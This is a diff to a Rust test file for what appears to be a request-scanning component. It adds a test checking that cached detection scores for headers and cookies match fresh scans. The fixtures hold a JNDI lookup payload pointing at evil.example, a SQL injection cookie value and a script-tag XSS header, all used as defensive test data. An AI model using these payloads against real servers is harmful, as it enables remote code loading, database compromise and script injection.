@@ -32,6 +32,26 @@ fn check_names(row: &str, ids: &[&str], fields: &[&str], reply_fields: &[&str]) 
 }
 
 #[test]
+fn what_is_remembered_of_fields_and_cookies_is_what_is_read_in_them() {
+    let rows = [
+        r#"{"method":"GET","path":"/a","headers":{"user-agent":"${jndi:ldap://evil.example/x}","cookie":"q=' OR 1=1 -- ; theme=dark"}}"#,
+        r#"{"method":"GET","path":"/a","headers":{"user-agent":"curl/8.5.0","cookie":"theme=dark","x-note":"<script>alert(1)</script>"}}"#,
+        r#"{"method":"GET","path":"/a","headers":{"user-agent":"curl/8.5.0","x-theme":"dark"}}"#,
+    ];
+    let fresh = rows.map(|row| judged(row).scores);
+    assert!(fresh[0].hits.len() >= 2 && !fresh[1].hits.is_empty());
+    assert!(fresh[2].hits.is_empty());
+    let mut reading = Reading::new().unwrap();
+    for _ in 0..4 {
+        for (row, scores) in rows.iter().zip(&fresh) {
+            let mut exchange = requests(row.as_bytes(), 1).unwrap().exchange;
+            reading.read(&mut exchange);
+            assert_eq!(&exchange.known.scores, scores, "{row}");
+        }
+    }
+}
+
+#[test]
 fn bodies_name_their_fields_and_ids() {
     check_names(
         r#"{"method":"POST","path":"/a?x_id=1","body":{"user_id":7,"note":"n","deep":{"orderId":"b"}},"status":200,"resp_headers":{"content-type":"application/json"},"resp_body":"[{\"id\":1,\"mail\":\"m\"},{\"id\":2,\"mail\":\"m\"}]"}"#,
